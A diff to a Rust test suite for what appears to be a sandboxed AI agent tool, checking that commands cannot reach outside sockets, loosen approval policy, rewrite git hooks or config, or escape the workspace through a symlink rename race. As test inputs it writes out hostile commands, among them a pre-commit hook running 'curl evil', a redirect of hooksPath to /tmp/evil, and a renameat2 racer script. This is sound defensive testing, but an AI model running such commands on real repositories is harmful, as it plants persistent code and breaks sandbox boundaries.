@@ -75,6 +75,23 @@ async fn no_command_reaches_a_unix_socket_outside_the_sandbox() {
     let status = other.client().await.ok("daemon/status", json!({})).await;
     assert_eq!(status["clients"], 1, "the second daemon saw another client: {status}");
 
+    // A datagram pair's end can `sendto` any datagram socket by path (journald, sd_notify):
+    // no such pair is made.
+    let env = canary_env().await;
+    let notify = env.root.join("run/notify.sock");
+    std::fs::create_dir_all(notify.parent().unwrap()).unwrap();
+    let receiver = std::os::unix::net::UnixDatagram::bind(&notify).unwrap();
+    receiver.set_nonblocking(true).unwrap();
+    let served = serve(&env, &[]).await;
+    let send = format!(
+        "python3 -c 'import socket, sys; a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b\"x\", sys.argv[1]); print(\"sent\")' {}",
+        notify.display()
+    );
+    let (_, results) = run_commands(&env, &[send]).await;
+    assert!(results[0].1 && !results[0].0.contains("sent"), "{results:?}");
+    assert!(receiver.recv(&mut [0_u8; 8]).is_err(), "a datagram arrived");
+    served.shutdown().await;
+
     // The control: with the network on, the same command does connect (so the test above can
     // fail), and a socket inside the workspace works either way for programs that need one
     // through `socketpair`.
@@ -177,6 +194,20 @@ async fn a_workspace_at_home_needs_confirming_and_its_secrets_stay_out_of_reach(
     served.shutdown().await;
 }
 
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_workspaces_tool_entry_does_not_loosen_the_users_class_policy() {
+    let env = Env::new().await;
+    write(&env.root, "config.toml", "[approvals]\ncommand = \"deny\"\n");
+    write(&env.workspace, ".dsh/config.toml", "[approvals]\nrun_command = \"ask\"\n");
+    let call = json!({"command": "echo ran"});
+    // `--yes` answers every question: had the workspace's `ask` won, the command would run.
+    let (session, output) = env.prompt_new(&format!("run [[fake:tool run_command {call}]]")).await;
+    assert!(output.status.success(), "{}", describe(&output));
+    let events = env.events(&session);
+    let result = tool_results(&events).first().map(|r| (r.content.clone(), r.is_error)).unwrap();
+    assert!(result.1 && result.0.contains("denies"), "{result:?}");
+}
+
 /// Prompts `text` in `session`, allows the approval the turn asks for `tool`, and waits for the
 /// turn to complete.
 async fn prompt_allowing(
@@ -255,27 +286,31 @@ async fn a_repository_cannot_loosen_approvals_and_a_loosening_waits_for_the_next
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn commands_cannot_rewrite_git_hooks_or_config() {
+async fn commands_cannot_change_what_git_runs_at_the_users_next_command() {
     let env = Env::new().await;
     write(&env.workspace, ".git/config", "[core]\n\tbare = false\n");
     write(&env.workspace, ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
     let served = env.serve(&[]).await;
     let commands = vec![
-        "echo '[core]\n\thooksPath = /tmp/evil' >> .git/config".to_owned(),
+        "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config".to_owned(),
         "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit".to_owned(),
-        "mv .git/config .git/config.old".to_owned(),
-        "echo fine > .git/description && cat .git/description".to_owned(),
+        // A new file redirects git to another repository's configuration and hooks.
+        "echo ../.evil > .git/commondir".to_owned(),
+        // So does a whole other .git put in its place.
+        "mv .git .g && mkdir -p .git/hooks".to_owned(),
+        "echo ok > note.txt && cat note.txt".to_owned(),
     ];
     let (_, results) = run_commands(&env, &commands).await;
-    for (command, (content, is_error)) in commands.iter().zip(&results).take(3) {
+    for (command, (content, is_error)) in commands.iter().zip(&results).take(4) {
         assert!(is_error, "`{command}` succeeded: {content}");
     }
-    assert_eq!(results[3], ("fine\n[exit code 0]".to_owned(), false));
-    assert_eq!(
-        std::fs::read_to_string(env.workspace.join(".git/config")).unwrap(),
-        "[core]\n\tbare = false\n"
-    );
+    assert!(results[0].0.contains(".git is read-only for commands"), "{}", results[0].0);
+    assert_eq!(results[4], ("ok\n[exit code 0]".to_owned(), false));
+    let config = std::fs::read_to_string(env.workspace.join(".git/config")).unwrap();
+    assert_eq!(config, "[core]\n\tbare = false\n");
     assert!(!env.workspace.join(".git/hooks/pre-commit").exists());
+    assert!(!env.workspace.join(".git/commondir").exists());
+    assert!(!env.workspace.join(".g").exists());
     served.shutdown().await;
 }
 
@@ -341,13 +376,19 @@ async fn a_fork_bomb_a_memory_hog_and_a_disk_filler_end_with_a_clear_error() {
     ];
     let (_, results) = run_commands(&env, &commands).await;
     let (fork, memory, disk) = (&results[0], &results[1], &results[2]);
-    assert!(fork.1 && fork.0.to_lowercase().contains("fork"), "{fork:?}");
+    let status = env.client().await.ok("daemon/status", json!({})).await;
+    let limits = status["sandbox"]["limits"].as_str().unwrap().to_owned();
+    if limits.contains("processes not limited") {
+        // A kernel before 6.14 cannot give a PID namespace its own pid_max: said, not assumed.
+        eprintln!("SKIPPED the fork bomb's assertion: {limits}");
+    } else {
+        assert!(fork.1 && fork.0.to_lowercase().contains("fork"), "{fork:?}");
+        assert!(limits.contains("300 processes"), "{limits}");
+    }
     assert!(memory.1 && memory.0.contains("MemoryError"), "{memory:?}");
     assert!(disk.1, "{disk:?}");
     assert_eq!(results[3], ("700\n[exit code 0]".to_owned(), false));
-    let status = env.client().await.ok("daemon/status", json!({})).await;
-    let limits = status["sandbox"]["limits"].as_str().unwrap();
-    assert!(limits.contains("300 processes") && limits.contains("256 MiB"), "{limits}");
+    assert!(limits.contains("memory 256 MiB") && limits.contains("file size 32 MiB"), "{limits}");
     served.shutdown().await;
 }
 
@@ -410,4 +451,79 @@ async fn looking_at_a_torn_log_never_changes_it_and_the_next_turn_recovers_it() 
     assert!(output.status.success(), "{}", describe(&output));
     assert_eq!(sidecars(), 1, "the turn did not move the torn tail aside");
     env.assert_audit_ok(&session).await;
+}
+
+/// The racer a command runs in session 1: swaps `dir` and `swap` (a symlink to a directory
+/// outside the workspace) with `renameat2(RENAME_EXCHANGE)` for a few seconds, as fast as it
+/// can; `racing` says it started, and it prints how many swaps it made.
+const RACER: &str = r#"import ctypes, time
+libc = ctypes.CDLL(None, use_errno=True)
+open("racing", "w").close()
+end, swaps = time.time() + 6, 0
+while time.time() < end:
+    if libc.renameat2(-100, b"dir", -100, b"swap", 2) == 0:
+        swaps += 1
+print("swaps", swaps)
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_rename_race_in_one_session_never_leads_another_sessions_file_tools_outside() {
+    let env = Env::new().await;
+    let outside = env.root.join("outside");
+    write(&outside, "secret.txt", "OUTSIDE-CANARY\n");
+    write(&env.workspace, "dir/secret.txt", "inside\n");
+    write(&env.workspace, "race.py", RACER);
+    std::os::unix::fs::symlink(&outside, env.workspace.join("swap")).unwrap();
+    let served = env.serve(&[]).await;
+
+    // Session 1 starts the racer through its sandboxed command...
+    let racer_call = json!({"command": "python3 race.py", "timeout_secs": 30});
+    let racer = env
+        .prompt_new_command(&format!("race [[fake:tool run_command {racer_call}]]"))
+        .spawn()
+        .unwrap();
+    let started = Instant::now();
+    while !env.workspace.join("racing").exists() {
+        assert!(started.elapsed() < Duration::from_secs(30), "the racer did not start");
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    // ...while session 2's file tools write and read through `dir` 25 times each.
+    let mut text = "write and read".to_owned();
+    for index in 0..25 {
+        let write = json!({"path": format!("dir/written-{index}.txt"), "content": "w"});
+        text.push_str(&format!(" [[fake:tool write_file {write}]]"));
+        text.push_str(&format!(" [[fake:tool read_file {}]]", json!({"path": "dir/secret.txt"})));
+    }
+    let (session, output) = env.prompt_new(&text).await;
+    assert!(output.status.success(), "{}", describe(&output));
+    let racer = tokio::time::timeout(Duration::from_secs(60), racer.wait_with_output())
+        .await
+        .expect("the racer's turn did not end")
+        .unwrap();
+    assert!(racer.status.success(), "{}", describe(&racer));
+    let racer_events = env.events(&crate::support::session_id_of(&racer));
+    let racer_result = tool_results(&racer_events).first().map(|r| r.content.clone()).unwrap();
+    let events = env.events(&session);
+    let results = tool_results(&events);
+    assert_eq!(results.len(), 50);
+    for result in &results {
+        assert!(!result.content.contains("OUTSIDE-CANARY"), "{result:?}");
+    }
+    let outside_files: Vec<_> =
+        std::fs::read_dir(&outside).unwrap().flatten().map(|e| e.file_name()).collect();
+    assert_eq!(
+        outside_files,
+        vec![std::ffi::OsString::from("secret.txt")],
+        "a write landed outside"
+    );
+    // The race really ran while the tools did, and some calls still got through.
+    let swaps: u64 = racer_result
+        .split_whitespace()
+        .skip_while(|word| *word != "swaps")
+        .nth(1)
+        .and_then(|count| count.parse().ok())
+        .unwrap_or(0);
+    assert!(swaps > 1000, "the racer barely ran ({swaps} swaps)");
+    assert!(results.iter().any(|result| !result.is_error), "no call got through at all");
+    served.shutdown().await;
 }
